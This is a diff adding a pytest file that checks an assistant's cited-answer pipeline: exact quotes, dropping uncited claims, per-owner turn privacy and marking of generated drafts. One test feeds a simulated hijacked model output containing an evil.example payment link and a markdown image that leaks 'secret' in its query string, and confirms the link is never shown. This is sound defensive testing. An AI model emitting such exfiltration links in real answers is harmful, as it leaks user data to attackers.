@@ -1,0 +1,207 @@
+"""Answers: only what a passage carries is shown, whatever the model writes; without a model the sources speak."""
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from parvis.access import directory
+from parvis.access.principal import Principal
+from parvis.assistant.answer import Answerer, Turn
+from parvis.assistant.endpoints.contract import Piece
+from parvis.assistant.gateway import Gateway
+from parvis.assistant.marking import mark
+from parvis.assistant.model import TurnRequest
+from parvis.assistant.support import Support
+from parvis.assistant.tree import Answer, Block
+from parvis.assistant.turns import StoredTurn, Turns
+from parvis.search.place import Place
+from parvis.search.request import Hit
+from parvis.store.store import Store
+from tests.assistant.conftest import card
+
+TEXTS = (
+    "Le minibus de 16 places est confirmé pour 15 h. Le chauffeur attendra devant la gare.",
+    "Đoàn sẽ đến ngày 7 tháng 12. Khách sạn đã được đặt cho sáu người.",
+    "The caterer asks for a deposit of 945 euros. See https://caterer.example/quote for the menu.",
+)
+
+
+def hit(number: int, text: str, language: str) -> Hit:
+    return Hit(
+        passage_id=number + 1,
+        account_id=1,
+        scope_id=2,
+        kind="Email",
+        object_id=number + 10,
+        title=f"Subject {number}",
+        author="Lan",
+        time_ms=1_790_000_000_000,
+        origin="outside",
+        part="body",
+        file_name="",
+        place=Place(),
+        language=language,
+        start=100,
+        end=100 + len(text),
+        text=text,
+        marks=(),
+        score=1.0,
+        text_score=1.0,
+        meaning_score=None,
+    )
+
+
+HITS = [
+    hit(number, text, language)
+    for number, (text, language) in enumerate(zip(TEXTS, ("fr", "vi", "en"), strict=True))
+]
+
+
+class Shelf:
+    """A Finder that holds three passages."""
+
+    embedder = None
+
+    async def find(self, principal, text, limit):
+        return HITS
+
+    async def whole(self, principal, kind, object_ids, limit):
+        return [one for one in HITS if one.object_id in object_ids]
+
+    async def kinds(self, principal):
+        return ["Email"]
+
+
+class Oracle:
+    """A model in the hands of an attacker: it says what it is told to."""
+
+    def __init__(self, words: str) -> None:
+        self.card, self._words = card(), words
+
+    async def stream(self, messages, *, max_tokens, temperature=0.0):
+        for start in range(0, len(self._words), 7):
+            yield Piece(self._words[start : start + 7])
+
+    async def healthy(self) -> bool:
+        return True
+
+
+@pytest.fixture
+def rooms() -> list[str]:
+    return ["store", "access", "assistant"]
+
+
+@pytest.fixture
+async def ann(store_sqlite: Store) -> Principal:
+    number = await store_sqlite.write(lambda unit: directory.create(unit, "person", "Ann", "ann@example.org"))
+    return await directory.by_id(store_sqlite.db, number)
+
+
+async def run(store: Store, who: Principal, request: TurnRequest, model: Oracle | None = None) -> Answer:
+    async def emit(_: Answer) -> None:
+        return None
+
+    turn = Turn(1, who, request, emit)
+    await Answerer(Shelf(), Gateway(store, [model] if model else [])).run(turn)
+    return turn.answer
+
+
+async def ask(store: Store, who: Principal, question: str, words: str | None = None) -> Answer:
+    return await run(store, who, TurnRequest(text=question), Oracle(words) if words is not None else None)
+
+
+async def test_without_a_model_the_sources_speak_with_exact_places(store_sqlite, ann) -> None:
+    answer = await ask(store_sqlite, ann, "Combien de places dans le minibus ?")
+    assert (answer.mode, answer.notice) == ("extractive", "noModel")
+    first = answer.citations[0]
+    assert first.quote == "Le minibus de 16 places est confirmé pour 15 h."
+    assert (first.start, first.end) == (100, 100 + len(first.quote))
+    assert answer.blocks[0].claims[0].citations == [1]
+
+
+async def test_what_is_nowhere_is_said_to_be_nowhere(store_sqlite, ann) -> None:
+    answer = await ask(store_sqlite, ann, "Quelle est la capitale de la Mongolie ?", "Oulan-Bator. [1]")
+    assert (answer.notice, answer.blocks, answer.citations) == ("nothingFound", [], [])
+    assert answer.searched.kinds == ["Email"]
+
+
+async def test_claims_keep_the_citation_that_carries_them(store_sqlite, ann) -> None:
+    said = "Le minibus a 16 places. [2]\nLe traiteur demande 900 euros. [3]\nThe deposit is 945 euros. [3]\n"
+    answer = await ask(store_sqlite, ann, "Combien de places dans le minibus ?", said)
+    shown = {block.claims[0].text: block.claims[0].citations for block in answer.blocks}
+    cited = {citation.number: citation.object_id for citation in answer.citations}
+    assert list(shown) == ["Le minibus a 16 places.", "The deposit is 945 euros."]
+    assert answer.dropped == 1
+    assert len({cited[numbers[0]] for numbers in shown.values()}) == 2
+
+
+async def test_a_link_that_no_source_has_is_never_shown(store_sqlite, ann) -> None:
+    said = (
+        "The caterer asks for a deposit of 945 euros, pay at https://evil.example/pay [3]\n"
+        "The caterer asks for a deposit of 945 euros ![x](https://evil.example/leak?q=secret) [3]\n"
+    )
+    answer = await ask(store_sqlite, ann, "What deposit does the caterer ask?", said)
+    shown = " ".join(claim.text for block in answer.blocks for claim in block.claims)
+    assert "evil.example" not in shown
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(words=st.text(max_size=400))
+async def test_whatever_a_model_writes_each_claim_shown_is_cited(store_sqlite, ann, words) -> None:
+    answer = await ask(store_sqlite, ann, "Combien de places dans le minibus ?", words)
+    known = {citation.number for citation in answer.citations}
+    for block in answer.blocks:
+        assert block.claims and all(claim.citations and set(claim.citations) <= known for claim in block.claims)
+    for citation in answer.citations:
+        source = HITS[int(citation.passage_id != "") and [str(h.title) for h in HITS].index(citation.title)]
+        assert source.text[citation.start - 100 : citation.end - 100] == citation.quote
+
+
+async def test_a_summary_keeps_to_what_it_is_about(store_sqlite, ann) -> None:
+    from parvis.assistant.model import About
+    from parvis.kernel import ids
+
+    about = [About(account_id=ids.text(1), kind="Email", id=ids.text(11))]
+    answer = await run(store_sqlite, ann, TurnRequest(task="summarise", about=about))
+    assert {citation.object_id for citation in answer.citations} == {ids.text(11)}
+
+
+async def test_writing_needs_a_model_and_says_so(store_sqlite, ann) -> None:
+    answer = await run(store_sqlite, ann, TurnRequest(task="rewrite", text="Bonjour"))
+    assert (answer.notice, answer.blocks, answer.level) == ("needsModel", [], "none")
+
+
+async def test_a_number_that_is_not_there_is_no_evidence() -> None:
+    support = Support(HITS, None)
+    assert await support.find("Le minibus de 16 places est confirmé pour 15 h.", [])
+    assert not await support.find("Le minibus de 18 places est confirmé pour 15 h.", [])
+
+
+async def test_a_turn_belongs_to_its_owner_alone(store_sqlite, ann) -> None:
+    number = await store_sqlite.write(lambda unit: directory.create(unit, "person", "Bob", "bob@example.org"))
+    bob = await directory.by_id(store_sqlite.db, number)
+    turns = Turns(store_sqlite, Answerer(Shelf(), Gateway(store_sqlite, [])))
+    request = TurnRequest(text="Combien de places dans le minibus ?")
+    turn_id = await store_sqlite.write(lambda unit: turns.add(unit, ann, request))
+    turns.start(ann, turn_id, request)
+    seen = [turn async for turn in turns.watch(ann, turn_id)]
+    assert seen[-1].status == "done" and seen[-1].answer.citations
+    assert await turns.get(bob, [turn_id]) == []
+    (kept,) = await turns.get(ann, [turn_id])
+    assert kept.answer == seen[-1].answer
+
+
+def stored(text: str, level: str) -> StoredTurn:
+    answer = Answer(blocks=[Block(kind="draft", text=text)], level=level, model="local test")
+    return StoredTurn(1, "draft", TurnRequest(task="draft"), answer, "done", 0)
+
+
+def test_the_mark_follows_what_is_left_of_the_models_words() -> None:
+    words = (
+        "Bonjour Lan, merci pour ces précisions. Je valide le programme et propose une visite mardi à dix heures."
+    )
+    assert mark(words, [stored(words, "generated")]).level == "generated"
+    assert mark(f"{words}\n\nClaire\nMairie", [stored(words, "generated")]).level == "generated"
+    assert mark(words, [stored(words, "assisted")]).level == "assisted"
+    assert mark("Rien à voir.", [stored(words, "generated")]) == mark("Rien à voir.", [])
+    assert 'level=generated; task=draft; model="local test"' in mark(words, [stored(words, "generated")]).header
